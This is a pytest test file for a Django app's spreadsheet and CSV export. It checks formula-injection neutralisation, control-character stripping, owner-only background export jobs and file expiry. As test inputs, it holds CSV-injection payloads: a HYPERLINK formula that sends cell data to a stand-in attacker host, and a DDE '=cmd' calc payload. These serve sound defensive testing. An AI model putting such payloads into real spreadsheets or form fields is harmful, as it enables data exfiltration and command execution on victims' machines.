"""One export mechanism: safe cells (formulas neutralised, control characters removed) and
background jobs with progress, a download link for the requester only, and expiry."""
import datetime as dt
import io

import pytest

from zhijian.entities.models import MarketEntity
from django.test import override_settings
from django.utils import timezone
from openpyxl import load_workbook

from tests.factories import make_entity, make_user
from zhijian.core import exports
from zhijian.core.models import ExportJob

IMMEDIATE = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}


@pytest.mark.parametrize("raw, shown", [
    ("=HYPERLINK(\"http://evil\",\"x\")", "'=HYPERLINK(\"http://evil\",\"x\")"),
    ("+86 531 1234", "'+86 531 1234"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\tcmd", "'\tcmd"),
    ("\r=1", "'\r=1"),
    ("济南市历下区经十路1号", "济南市历下区经十路1号"),
    ("C\u0015", "C"),
    ("\u0001=1+1", "'=1+1"),  # removing the control character must not uncover a formula
])
def test_text_cells_are_neutralised_and_cleaned(raw, shown):
    assert exports.cell(raw) == shown


def test_other_values_pass_and_structures_become_text():
    d = dt.date(2026, 12, 1)
    assert exports.row([None, 3, -2.5, d, True]) == [None, 3, -2.5, d, True]  # a negative number is a number, not a formula
    assert exports.cell({"状态": "=x"}) == '{"状态": "=x"}'


def test_workbook_and_csv_hold_what_openpyxl_would_refuse():
    data = exports.xlsx_bytes("主体", [["名称", "地址"], ["甲商行", "C\u0015"], ["=1+1", "@x"]])
    rows = list(load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))
    assert rows == [("名称", "地址"), ("甲商行", "C"), ("'=1+1", "'@x")]
    text = exports.csv_bytes([["a"], ["=cmd|' /C calc'!A0"]]).decode("utf-8-sig")
    assert text.splitlines()[1].startswith("'=cmd")


@pytest.mark.django_db
@override_settings(TASKS=IMMEDIATE)
def test_entity_export_job_progress_link_and_owner_only(client, officer, django_capture_on_commit_callbacks):
    old = make_entity(name="东莞市甲有限公司")
    # A row stored before the input rules (they refuse it now): the export still works.
    MarketEntity.objects.filter(pk=old.pk).update(address="东莞市南城街道C\u0015")
    make_entity(name="=HYPERLINK(\"x\")商行")
    client.force_login(officer)
    with django_capture_on_commit_callbacks(execute=True):
        started = client.post("/entities/export.xlsx")
    job = ExportJob.objects.get()
    assert started.url == f"/exports/{job.pk}/"
    assert (job.state, job.processed, job.total, job.created_by) == ("done", 2, 2, officer)
    page = client.get(started.url).content.decode()
    assert "export-download" in page and "共 2 行" in page
    assert 'hx-trigger' not in client.get(started.url, HTTP_HX_REQUEST="true").content.decode()  # done: polling stops
    got = client.get(f"/exports/{job.pk}/download/")
    rows = list(load_workbook(io.BytesIO(b"".join(got.streaming_content))).active.iter_rows(values_only=True))
    assert rows[0][0] == "统一社会信用代码" and {r[1] for r in rows[1:]} == {"东莞市甲有限公司", "'=HYPERLINK(\"x\")商行"}
    assert "东莞市南城街道C" in {r[8] for r in rows[1:]} and "存续（在业）" in {r[7] for r in rows[1:]}
    # Someone else (even of the same bureau) cannot see or download it.
    other = make_user("enforcement_officer", bureau=officer.bureau)
    client.force_login(other)
    assert client.get(f"/exports/{job.pk}/").status_code == 404
    assert client.get(f"/exports/{job.pk}/download/").status_code == 404


@pytest.mark.django_db
def test_queued_job_polls_and_expired_files_are_removed(client, officer):
    job = ExportJob.objects.create(kind="entities", title="市场主体", created_by=officer, total=50_000, processed=12_000, state="running")
    client.force_login(officer)
    partial = client.get(f"/exports/{job.pk}/", HTTP_HX_REQUEST="true").content.decode()
    assert 'hx-trigger="every 1s"' in partial and "12000 / 50000" in partial.replace(",", "") and "24%" in partial
    f = exports.export_dir() / "x-test.csv"
    f.write_text("a")
    ExportJob.objects.filter(pk=job.pk).update(state="done", stored_name=f.name, expires_at=timezone.now() - dt.timedelta(minutes=1))
    assert client.get(f"/exports/{job.pk}/download/").status_code == 404
    assert exports.purge_expired() == 1 and not f.exists()
    assert ExportJob.objects.get(pk=job.pk).state == "expired"


@pytest.mark.django_db
def test_audit_csv_goes_through_the_safe_cell_helper(client):
    from zhijian.security import audit
    from zhijian.security.choices import AuditEvent
    from zhijian.security.models import AuditLog

    auditor = make_user("audit_admin", username="auditexport", is_staff=True)
    # The reproduction: a sign-in attempt whose user name is a formula lands in the audit log …
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    client.post("/accounts/login/", {"username": hostile, "password": "wrong-password-1"})
    assert AuditLog.objects.filter(username=hostile, event=AuditEvent.LOGIN_FAILURE).exists()
    # … and an older entry with a control character (written before the input rules).
    audit.record(AuditEvent.LOGIN_FAILURE, outcome="failure", username="=1+2\u0007")
    client.force_login(auditor)
    body = b"".join(client.get("/security/audit/export.csv").streaming_content).decode("utf-8")
    assert body.startswith("\ufeff") and "'=HYPERLINK" in body and "'=1+2" in body and "\u0007" not in body
    assert ",=HYPERLINK" not in body and ',"=HYPERLINK' not in body


def test_import_error_report_neutralises_rejected_values():
    from zhijian.entities import importer

    s = importer.Summary()
    s.errors.append(importer.RowError(3, "统一社会信用代码", "=1+2", "校验位错误"))
    text = importer.error_report_csv(s).decode("utf-8-sig")
    assert "'=1+2" in text and text.startswith("行号")
